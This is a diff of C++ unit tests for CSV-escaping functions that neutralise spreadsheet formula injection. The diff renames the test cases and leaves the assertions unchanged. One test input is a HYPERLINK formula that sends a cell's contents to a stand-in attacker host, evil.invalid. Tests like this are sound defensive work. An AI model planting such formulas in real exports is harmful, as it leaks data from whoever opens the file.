@@ -12,7 +12,7 @@ TEST(CsvText, QuotesCommasAndQuotationMarks) {
   EXPECT_EQ(csv_text("\"Quoted\""), "\"\"\"Quoted\"\"\"");
 }
 
-TEST(CsvText, DisarmsFormulas) {
+TEST(CsvText, EscapesFormulas) {
   EXPECT_EQ(csv_text("=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")"),
             "\"'=HYPERLINK(\"\"http://evil.invalid/?\"\"&A1,\"\"click\"\")\"");
   EXPECT_EQ(csv_text("+1"), "'+1");
@@ -25,18 +25,18 @@ TEST(CsvText, DisarmsFormulas) {
   EXPECT_EQ(csv_text("＝1+1"), "'＝1+1");
 }
 
-TEST(CsvText, LeavesSignsInsideATextAlone) {
+TEST(CsvText, KeepsOperatorsInsideText) {
   EXPECT_EQ(csv_text("1+1=2"), "1+1=2");
   EXPECT_EQ(csv_text("X-Men"), "X-Men");
   EXPECT_EQ(csv_text("'Allo"), "'Allo");
 }
 
-TEST(CsvText, KeepsARecordInOneLine) {
+TEST(CsvText, ReplacesLineBreaksAndControlCharacters) {
   EXPECT_EQ(csv_text("Two\nLines\rOver"), "Two Lines Over");
   EXPECT_EQ(csv_text("\x1b[31mRed"), "�[31mRed");
 }
 
-TEST(GuardCsv, DisarmsTextsAndLeavesNumbers) {
+TEST(GuardCsv, EscapesTextAndKeepsNumbers) {
   EXPECT_EQ(
       guard_csv("id,title,usd\n1,\"=1+1\",-1.5\r\n2,-30-,-1E-7\n3,\"-30\",\"@a, \"\"b\"\"\"\n"),
       "id,title,usd\n1,\"'=1+1\",-1.5\r\n2,'-30-,-1E-7\n3,\"-30\",\"'@a, \"\"b\"\"\"\n");
@@ -45,7 +45,7 @@ TEST(GuardCsv, DisarmsTextsAndLeavesNumbers) {
   EXPECT_EQ(guard_csv("a,,\"\"\r\n\n,\r\n"), "a,,\"\"\r\n\n,\r\n");
 }
 
-TEST(GuardCsv, LeavesSignsInsideAQuotedField) {
+TEST(GuardCsv, KeepsOperatorsInsideAQuotedField) {
   EXPECT_EQ(guard_csv("\"a,=b\n-c\",1\n"), "\"a,=b\n-c\",1\n");
   EXPECT_EQ(guard_csv("\"say \\\"=hi\\\"\",2\n"), "\"say \\\"=hi\\\"\",2\n");
 }
